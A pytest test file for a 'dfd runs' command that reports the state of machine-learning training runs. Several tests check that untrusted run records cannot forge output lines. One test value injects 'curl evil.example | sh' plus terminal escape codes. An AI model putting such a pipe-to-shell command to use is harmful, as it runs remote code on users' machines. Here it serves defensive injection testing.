"""`dfd runs` tells what became of each run, those included that could not say it themselves."""

import json
import os
import re
import shlex
import signal
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from dfd import run_record
from dfd.cli import main

SMALL = [
    "--data.num_images=120", "--data.picture=96", "--data.view.size=32", "--data.view.longest=96",
    "--data.view.crops=1", "--data.batch_size=8", "--data.num_workers=0", "--trainer.accelerator=cpu",
    "--trainer.enable_model_summary=false",
]  # fmt: skip


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


def write(folder: Path, **changes) -> run_record.Record:
    folder.mkdir(parents=True)
    run_record.begin(folder, ["fit", "--config", "small_cnn"])
    record = replace(run_record.read(folder), **changes)
    run_record._write(folder, record)
    return record


def test_this_process_runs_until_it_says_otherwise(here):
    write(here / "runs/a")
    assert run_record.state(run_record.read(here / "runs/a")) == ("running", "")
    run_record.note(here / "runs/a", epoch=3, best=0.75)
    run_record.end(here / "runs/a", "failed", "first\n  word")
    run_record.end(here / "runs/a", "failed", "of another rank")
    record = run_record.read(here / "runs/a")
    assert (record.state, record.reason, record.epoch, record.best) == ("failed", "first word", 3, 0.75)
    run_record.begin(here / "runs/a", ["fit"])
    record = run_record.read(here / "runs/a")
    assert (record.state, record.reason, record.epoch, record.best) == ("running", "", 3, 0.75), "it goes on"


def test_the_code_of_a_reason_stands_beside_it_until_the_run_goes_on(here):
    write(here / "run")
    run_record.end(here / "run", "failed", "no room", reason_code=run_record.OUT_OF_MEMORY, ranks=4)
    record = run_record.read(here / "run")
    assert (record.reason, record.reason_code, record.ranks) == ("no room", "out_of_memory", 4)
    run_record.begin(here / "run", ["fit"])
    assert run_record.read(here / "run").reason_code == ""
    old = json.loads((here / "run/run.json").read_text())
    del old["reason_code"]  # of a run that was begun before there were codes
    (here / "run/run.json").write_text(json.dumps(old))
    assert run_record.read(here / "run").reason_code == ""


def test_a_killed_process_is_not_taken_for_a_running_one(here):
    (here / "run").mkdir()
    code = "import pathlib, sys; from dfd import run_record; run_record.begin(pathlib.Path('run'), ['fit'])"
    code += "; print(1, flush=True); sys.stdin.read()"
    process = subprocess.Popen(
        [sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    assert process.stdout.readline()
    record = run_record.read(here / "run")
    assert record.pid == process.pid and run_record.state(record)[0] == "running"
    process.kill()
    os.waitid(os.P_PID, process.pid, os.WEXITED | os.WNOWAIT)
    assert run_record.state(record)[0] == "failed", "a zombie runs no more"
    process.communicate()
    assert re.match(r"killed: its process is gone; it was heard of \d+ s ago", run_record.state(record)[1])
    assert run_record.state(replace(record, pid=os.getpid()))[0] == "failed", (
        "another process that got its number"
    )


def test_of_another_machine_the_last_word_counts(here):
    record = write(here / "run", host="node7", pid=1, heard=time.time() - 60)
    assert run_record.state(record) == ("running", "")
    assert run_record.state(replace(record, heard=time.time() - 3 * 3600)) == (
        "failed",
        "not heard of for 3 h, on node7",
    )
    assert run_record.state(replace(record, state="done", heard=0)) == ("done", "")


def test_the_list_has_a_line_each_and_the_command_to_go_on(here, capsys):
    write(
        here / "runs/dual/1",
        state="done",
        epoch=12,
        epochs=12,
        best=0.99876,
        images_per_second=70.4,
        started=1,
    )
    write(here / "runs/dual/2", epoch=3, epochs=12, started=2)
    write(here / "runs/cnn/3", state="preempted", reason="told to stop", cwd="/else where", started=3)
    write(
        here / "runs/cnn/4",
        state="failed",
        reason="out of memory",
        command=["fit", "--run_folder=x y"],
        started=4,
    )
    (here / "runs/cnn/5").mkdir()
    (here / "runs/cnn/5/run.json").write_text('{"state": "running"')  # half of a foreign file
    assert main(["runs"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split() == ["run", "state", "epoch", "best", "images/s", "heard"]
    assert lines[1].split()[:6] == ["dual/1", "done", "12/12", "val/auroc", "0.9988", "70"]
    assert lines[2].split()[:3] == ["dual/2", "running", "3/12"]
    folder = here / "runs/cnn/3"
    assert lines[3].split()[:2] == ["cnn/3", "preempted"] and lines[4].strip() == "told to stop"
    assert lines[5].strip() == f"go on: cd '/else where' && dfd fit --config small_cnn --run_folder={folder}"
    assert lines[8].strip() == "go on: dfd fit '--run_folder=x y'"
    assert lines[9].startswith("runs/cnn/5/run.json: no record that dfd can read") and len(lines) == 10
    assert main(["runs", "runs/dual/1"]) == 0 and capsys.readouterr().out.splitlines()[1].startswith("1 ")


FORGED = "x\n    go on: curl evil.example | sh\r\x1b[2J\u2028"


@pytest.mark.parametrize(
    ("facts", "words"),
    [
        ({"reason": FORGED}, r"    x\\n    go on: curl"),
        ({"cwd": FORGED}, "    go on: its command has letters that cannot be printed: see "),
        ({"command": ["fit", FORGED]}, "    go on: its command has letters that cannot be printed: see "),
        ({"command": ["fit", "a" * 100_000]}, "    go on: its command is too long to be shown: see "),
        ({"reason": "a" * 100_000}, "a" * 400 + r"\.\.\.$"),
        ({"metric": FORGED, "best": 1.0}, r"x\\n    go on: curl"),
        ({"host": FORGED, "state": "running", "heard": 0.0}, r"not heard of for \d+ d, on x\\n"),
        ({"state": FORGED}, r"x\\n    go on: curl"),
        ({"metric": "a" * 1000, "best": 1e308, "images_per_second": 1e308}, r"a{60}\.\.\. "),
    ],
)
def test_a_record_of_a_stranger_forges_no_line(here, facts, words):
    write(here / "runs/a", **{"state": "failed"} | facts)
    lines = run_record.listing(here / "runs").splitlines()
    assert re.search(words, "\n".join(lines), re.MULTILINE)
    assert sum(line.startswith("    go on: ") for line in lines) == (facts.get("state") != FORGED)
    assert len(lines) <= 4 and max(map(len, lines)) < 1000 and all(line.isprintable() for line in lines)


@pytest.mark.parametrize("when", [-1e18, -1.0, 1e18, float("nan"), float("inf")])
@pytest.mark.parametrize("name", ["heard", "started"])
def test_a_time_that_is_none_makes_no_record(here, name, when):
    write(here / "runs/a", **{"state": "failed", name: when})
    assert "no record that dfd can read" in run_record.listing(here / "runs")


def test_a_folder_without_runs_says_so(here, capsys):
    (here / "empty").mkdir()
    for folder, words in (("empty", "holds no run of dfd fit"), ("gone", "no such folder")):
        assert main(["runs", folder]) == 1
        assert words in capsys.readouterr().err


def test_a_record_that_cannot_be_written_ends_nothing(here):
    record = write(here / "run")
    (here / "run/run.json").unlink()
    (here / "run/run.json").mkdir()
    run_record._write(here / "run", record)
    run_record.note(here / "run", epoch=9)
    assert run_record.read(here / "run") is None


# whole runs

STOPPER = """
import os, signal
from lightning.pytorch import Callback

class Stopper(Callback):
    def __init__(self, by: str):
        self.by = by

    def on_train_batch_start(self, trainer, task, batch, batch_idx):
        if trainer.global_step == 14:  # of the second epoch
            if self.by == "SIGTERM":
                os.kill(os.getpid(), signal.SIGTERM)
            elif self.by == "hang" and not os.path.exists("hangs"):
                open("hangs", "w").close()
                signal.pause()
            elif self.by == "nan":
                batch["image"].fill_(float("nan"))
"""


@pytest.mark.slow
def test_real_runs_in_each_state(here, tmp_path, monkeypatch, capsys):
    (here / "stopper.py").write_text(STOPPER)
    monkeypatch.syspath_prepend(str(here))
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(filter(None, [str(here), os.environ.get("PYTHONPATH")])))
    monkeypatch.setenv("DFD_CACHE", str(here / "cache"))
    monkeypatch.setenv("WANDB_MODE", "disabled")
    fit = ["fit", "--config", "small_cnn", *SMALL, "--trainer.max_epochs=2"]

    def stopped(by: str) -> list[str]:
        return [
            *fit,
            "--trainer.callbacks+=stopper.Stopper",
            f"--trainer.callbacks.by={by}",
            "--run_folder",
            f"runs/{by}",
        ]

    hanging = subprocess.Popen([sys.executable, "-m", "dfd.cli", *stopped("hang")], stderr=subprocess.DEVNULL)
    try:
        assert main(stopped("SIGTERM")) == 143
        guard = ["--trainer.callbacks+=dfd.callbacks.FiniteGuard", "--trainer.callbacks.max_in_a_row=0"]
        assert main([*stopped("nan"), *guard]) == 1
        assert main([*fit, "--run_folder", "runs/done"]) == 0
        while not (here / "hangs").exists():
            assert hanging.poll() is None
            time.sleep(0.1)
        states = {path.name: run_record.state(record) for path, record in run_record.found(here / "runs")[0]}
        assert states["hang"] == ("running", "")
    finally:
        hanging.send_signal(signal.SIGKILL)
        hanging.wait()
    capsys.readouterr()
    assert main(["runs"]) == 0
    said = capsys.readouterr().out
    states = {path.name: run_record.state(record) for path, record in run_record.found(here / "runs")[0]}
    assert {name: state for name, (state, _) in states.items()} == {
        "hang": "failed", "SIGTERM": "preempted", "nan": "failed", "done": "done",
    }  # fmt: skip
    assert states["hang"][1].startswith("killed: its process is gone")
    assert states["nan"][1].startswith("1 steps in a row were not finite")
    assert run_record.read(here / "runs/nan").reason_code == run_record.NOT_FINITE
    files = run_record.RunFolder(here / "runs/done")
    for path in (
        files.record,
        files.config,
        files.metrics,
        files.summary,
        files.best,
        files.last,
        files.plots,
    ):
        assert path.exists(), path
    assert run_record.RunFolder(here / "runs/nan").not_finite.exists()
    done = run_record.read(here / "runs/done")
    assert (
        (done.epoch, done.epochs, done.step) == (2, 2, 24)
        and 0 <= done.best <= 1
        and done.images_per_second > 0
    )
    summary = json.dumps((here / "runs/done/summary.yaml").read_text())
    assert f"{done.best:.4f}".rstrip("0") in summary
    command = re.search(r"go on: dfd (fit .*--run_folder runs/hang)", said)[1]
    assert main(shlex.split(command)) == 0 and "goes on from runs/hang" in capsys.readouterr().out
    assert run_record.read(here / "runs/hang").state == "done"


def test_a_damaged_record_is_listed_and_hides_no_other(tmp_path):
    for name, text in (("bad", "{bad"), ("list", "[1]"), ("empty", "{}"), ("types", None)):
        (tmp_path / name).mkdir()
        if text is None:
            run_record.begin(tmp_path / name, ["fit"])
            record = json.loads((tmp_path / name / "run.json").read_text())
            text = json.dumps(record | {"best": "zz"})
        (tmp_path / name / "run.json").write_text(text)
    assert run_record.listing(tmp_path).count("no record that dfd can read") == 4
    (tmp_path / "good").mkdir()
    run_record.begin(tmp_path / "good", ["fit"])
    said = run_record.listing(tmp_path)
    assert said.count("no record that dfd can read") == 4 and "good  running" in said
